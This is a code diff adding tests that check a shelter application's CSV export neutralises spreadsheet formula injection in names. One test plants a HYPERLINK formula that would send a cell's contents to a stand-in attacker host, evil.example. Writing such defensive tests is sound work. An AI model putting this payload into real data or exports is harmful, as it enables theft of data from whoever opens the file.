@@ -118,3 +118,24 @@ def test_migrations_agree_with_models(app, db):
     conn = db.session.connection()
     diff = compare_metadata(MigrationContext.configure(conn), Base.metadata)
     assert diff == []
+
+
+def test_csv_export_neutralises_formulas_in_names(client, manager, db):
+    from shelter.models import Person
+
+    carl = db.session.scalar(select(Person).where(Person.name == "Carl"))
+    carl.name = '=HYPERLINK("http://evil.example/?d="&A1,"Carl")'
+    carl.alias = None
+    db.session.flush()
+    export = client.get("/reports/turnaways.csv", query_string={**RANGE, "table": "repeat"})
+    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
+    names = [row[0] for row in rows[1:]]
+    assert "'" + carl.name in names
+    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
+    table = svc.Table("t", "T", [start + "col", "n"], [[start + "1+1", -3]])
+    rows = list(csv.reader(io.StringIO(svc.to_csv(table))))
+    assert rows == [["'" + start + "col", "n"], ["'" + start + "1+1", "-3"]]
